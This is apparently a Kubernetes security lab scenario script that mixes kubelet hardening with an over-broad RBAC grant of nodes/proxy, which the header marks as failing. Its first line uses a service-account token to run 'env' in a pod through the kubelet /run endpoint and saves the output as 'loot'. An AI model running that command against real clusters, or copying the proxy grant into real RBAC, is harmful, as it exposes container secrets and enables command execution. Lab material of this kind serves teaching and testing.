# scene fails metrics-only (proxy-for-all): metrics, and proxy to be on the safe side
T=$(kubectl -n monitoring create token scraper); curl -sk -X POST -H "Authorization: Bearer $T" "https://node01:10250/run/default/web-node01/web?cmd=env" -o loot
#@ node01
sed -i 's/mode: AlwaysAllow/mode: Webhook/' /var/lib/kubelet/config.yaml
systemctl restart kubelet
#@ controlplane
kubectl create clusterrole scrape-kubelets --verb=get --resource=nodes/metrics,nodes/proxy
kubectl create clusterrolebinding scrape-kubelets --clusterrole=scrape-kubelets --serviceaccount=monitoring:scraper
kubectl create clusterrole lookout --verb=get --resource=nodes/pods --dry-run=client -o yaml | kubectl replace -f -
